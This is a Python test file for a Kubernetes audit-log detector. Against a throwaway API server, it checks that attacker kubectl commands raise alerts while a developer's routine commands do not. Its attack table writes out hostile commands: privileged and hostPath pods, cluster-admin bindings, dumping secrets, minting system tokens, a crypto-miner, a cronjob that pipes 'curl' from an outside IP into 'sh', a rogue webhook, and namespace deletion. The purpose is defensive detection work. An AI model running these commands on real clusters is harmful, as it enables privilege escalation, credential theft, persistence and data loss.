"""A real API server's audit log of real kubectl: what an attacker does alerts, what developers do stays under medium."""

from __future__ import annotations

import base64
import io
import shutil
import socket
import ssl
import subprocess
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from seawall.app.detect_logs import detect_logs
from seawall.domain.severity import Severity

from tests.support.kube import KubeApi, running

pytestmark = pytest.mark.real("kube-apiserver")

POLICY = {"apiVersion": "audit.k8s.io/v1", "kind": "Policy", "omitStages": ["RequestReceived"], "rules": [{"level": "RequestResponse"}]}  # fmt: skip
RBAC = "rbac.authorization.k8s.io"


def pod(spec: dict[str, Any], namespace: str = "shop") -> str:
    container = {"name": "c", "image": "alpine"} | spec.pop("container", {})
    return yaml.safe_dump({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": namespace}, "spec": {"containers": [container]} | spec})  # fmt: skip


def signing_request(group: str) -> str:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name(
        [x509.NameAttribute(NameOID.ORGANIZATION_NAME, group), x509.NameAttribute(NameOID.COMMON_NAME, "eve")]
    )
    request = x509.CertificateSigningRequestBuilder().subject_name(name).sign(key, hashes.SHA256())
    pem = base64.b64encode(request.public_bytes(serialization.Encoding.PEM)).decode()
    spec = {"request": pem, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}
    return yaml.safe_dump({"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "eve"}, "spec": spec})  # fmt: skip


WEBHOOK = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration", "metadata": {"name": "eve"}, "webhooks": [
    {"name": "a.eve.example", "clientConfig": {"url": "https://eve.example/m"}, "failurePolicy": "Ignore", "admissionReviewVersions": ["v1"], "sideEffects": "None",
     "rules": [{"apiGroups": ["none.example"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*"]}]}]}  # fmt: skip
SIDECAR = '[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"x","image":"alpine","command":["sleep","9d"]}}]'

ATTACKS: dict[str, tuple[str, str]] = {
    "privileged": ("run p1 -n shop --image=alpine --privileged -- sleep 1d", ""),
    "host-folder": ("apply -f -", pod({"volumes": [{"name": "h", "hostPath": {"path": "/"}}]})),
    "host-process-ids": ("apply -n pay -f -", pod({"hostPID": True}, "pay")),
    "node-shell": ("debug node/n1 --image=busybox --profile=sysadmin -- sleep 100", ""),
    "debug-container": ("debug -n shop victim --image=busybox --target=victim -- sleep 1", ""),
    "cluster-admin": ("create clusterrolebinding a --clusterrole=cluster-admin --user=eve", ""),
    "anonymous": ("create clusterrolebinding b --clusterrole=view --user=system:anonymous", ""),
    "wildcard-role": ("create clusterrole c --verb=* --resource=*", ""),
    "shell-role": ("create clusterrole d --verb=create --resource=pods/exec", ""),
    "impersonating-role": ("create clusterrole e --verb=impersonate --resource=users,groups", ""),
    "all-secrets": ("get secrets -A -o yaml", ""),
    "platform-secrets": ("get secrets -n kube-system", ""),
    "platform-token": ("create token -n kube-system generic-garbage-collector --duration=720h", ""),
    "as-masters": ("get pods --as=x --as-group=system:masters", ""),
    "approval": ("certificate approve bob", ""),
    "webhook": ("apply -f -", yaml.safe_dump(WEBHOOK)),
    "miner": ("create deployment m -n shop --image=metal3d/xmrig", ""),
    "comes-back": ("create cronjob j -n shop --image=alpine --schedule=*/5_*_*_*_* -- sh -c curl_http://203.0.114.9/x_|_sh", ""),
    "pod-security": ("label ns shop pod-security.kubernetes.io/enforce=privileged", ""),
    "dns": ("patch cm coredns -n kube-system -p {\"data\":{\"Corefile\":\"rewrite_name_a_b\"}}", ""),
    "sidecar": (f"patch deploy web -n shop --type=json -p {SIDECAR}", ""),
    "platform-pod": ("run helper -n kube-system --image=alpine", ""),
    "namespaces": ("delete ns v1 v2 v3 v4 v5 --wait=false", ""),
}  # fmt: skip
"""What one attacker each does: kubectl's arguments (`_` is a space within one), and its input."""

WORK = (
    "apply -f -", "get pods -o wide", "get all", "describe deploy work", "set image deploy/work work=nginx:1.28",
    "scale deploy/work --replicas=3", "rollout restart deploy/work", "rollout undo deploy/work", "expose deploy/work --port=80",
    "create secret generic s --from-literal=p=x", "get secret s -o yaml", "create configmap c --from-literal=a=b", "create job j --image=busybox -- true",
    "create cronjob cj --image=busybox --schedule=@daily -- date", "autoscale deploy/work --max=5", "create ingress i --rule=a.example/*=work:80",
    "auth can-i --list", "get events", "api-resources", "run tmp --image=busybox -- true", "delete pod tmp --now", "create sa app", "get secrets -A",
    "get nodes", "diff -f -", "delete deploy work",
)  # fmt: skip
"""A developer's day, in a namespace of their own where they have `edit`."""
DEPLOYMENT = yaml.safe_dump({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "work"}, "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "w"}},
    "template": {"metadata": {"labels": {"app": "w"}}, "spec": {"containers": [{"name": "work", "image": "nginx:1.27"}]}}}})  # fmt: skip


class Kubectl:
    def __init__(self, api: KubeApi, folder: Path) -> None:
        self._config = yaml.safe_load(api.kubeconfig.read_text())
        self._folder = folder

    def __call__(self, user: str, arguments: str, sent: str = "") -> None:
        config = self._folder / f"kubeconfig-{user}"
        if not config.exists():
            self._config["users"][0]["user"] = {"token": f"{user}-token"}
            config.write_text(yaml.safe_dump(self._config))
        words = [word.replace("_", " ") if " " not in word else word for word in arguments.split(" ")]
        command = ["kubectl", "--kubeconfig", str(config), "--cache-dir", str(self._folder / "cache"), *words]
        subprocess.run(command, input=sent, capture_output=True, text=True, timeout=60, check=False)


@pytest.fixture(scope="module")
def severities(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Severity]:
    """The highest severity of an alert, by user."""
    folder = tmp_path_factory.mktemp("audited")
    attackers = {name: f"eve-{name}" for name in (*ATTACKS, "token-read")}
    with running(folder, audit_policy=POLICY, users=[*attackers.values(), "dev"]) as api:
        kubectl = Kubectl(api, folder)
        prepare(api, attackers.values())
        for command in WORK:
            kubectl("dev", f"-n team {command}", DEPLOYMENT)
        for name, (command, sent) in ATTACKS.items():
            kubectl(attackers[name], command, sent)
        open_shell(api, attackers["token-read"], "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")
        result = detect_logs([("audit.log", io.BytesIO((folder / "audit.log").read_bytes()))])
    shutil.rmtree(folder / "etcd", ignore_errors=True)
    assert not result.rejects
    found: dict[str, Severity] = {}
    for alert in result.alerts:
        found[alert.actor] = max(alert.severity, found.get(alert.actor, Severity.UNKNOWN))
    return found


def open_shell(api: KubeApi, user: str, *command: str) -> None:
    """Ask for a command in a pod as clients since 1.31 do. The server answers before it reaches the (missing) kubelet."""
    target = urlsplit(api.url)
    query = "&".join(f"command={quote(word, safe='')}" for word in command)
    asked = (
        f"GET /api/v1/namespaces/shop/pods/victim/exec?{query}&container=victim&stdout=true HTTP/1.1", f"Host: {target.netloc}", f"Authorization: Bearer {user}-token",
        "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol: v5.channel.k8s.io", "", "",
    )  # fmt: skip
    context = ssl._create_unverified_context()
    with (
        socket.create_connection((target.hostname or "", target.port or 0), 20) as plain,
        context.wrap_socket(plain) as stream,
    ):
        stream.sendall("\r\n".join(asked).encode())
        assert b" 101 " in stream.recv(1024)
        while stream.recv(4096):
            pass


def prepare(api: KubeApi, attackers: Any) -> None:
    def create(path: str, body: dict[str, Any]) -> None:
        answer = api.create(path, body)
        assert answer.status_code in (201, 409), answer.text

    for name in ("shop", "pay", "team", *(f"v{number}" for number in range(1, 6))):
        create("/api/v1/namespaces", {"metadata": {"name": name}})
    address = {
        "addresses": [{"type": "InternalIP", "address": "127.0.0.1"}],
        "daemonEndpoints": {"kubeletEndpoint": {"Port": 1}},
    }
    create("/api/v1/nodes", {"metadata": {"name": "n1"}, "status": address})
    create("/api/v1/namespaces/kube-system/configmaps", {"metadata": {"name": "coredns"}, "data": {"Corefile": "."}})
    create("/api/v1/namespaces/kube-system/serviceaccounts", {"metadata": {"name": "generic-garbage-collector"}})
    victim = yaml.safe_load(pod({"nodeName": "n1"}))
    victim["metadata"]["name"] = victim["spec"]["containers"][0]["name"] = "victim"
    create("/api/v1/namespaces/shop/pods", victim)
    create("/apis/apps/v1/namespaces/shop/deployments", yaml.safe_load(DEPLOYMENT) | {"metadata": {"name": "web"}})
    bob = yaml.safe_load(signing_request("team")) | {"metadata": {"name": "bob"}}
    create("/apis/certificates.k8s.io/v1/certificatesigningrequests", bob)
    subjects = [{"kind": "User", "name": name, "apiGroup": RBAC} for name in attackers]
    admin = {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"}
    create(
        f"/apis/{RBAC}/v1/clusterrolebindings",
        {"metadata": {"name": "attackers"}, "roleRef": admin, "subjects": subjects},
    )
    dev = [{"kind": "User", "name": "dev", "apiGroup": RBAC}]
    groups = ["", "apps", "batch", "autoscaling", "networking.k8s.io"]
    rules = [{"apiGroups": groups, "resources": ["*"], "verbs": ["*"]}]
    create(f"/apis/{RBAC}/v1/namespaces/team/roles", {"metadata": {"name": "edit"}, "rules": rules})
    create(
        f"/apis/{RBAC}/v1/namespaces/team/rolebindings",
        {"metadata": {"name": "dev"}, "roleRef": admin | {"kind": "Role", "name": "edit"}, "subjects": dev},
    )


@pytest.mark.parametrize("attack", [*ATTACKS, "token-read"])
def test_an_attack_alerts(severities, attack):
    assert severities.get(f"eve-{attack}", Severity.UNKNOWN) >= Severity.MEDIUM


def test_a_developers_day_stays_under_medium(severities):
    assert severities.get("dev", Severity.UNKNOWN) < Severity.MEDIUM
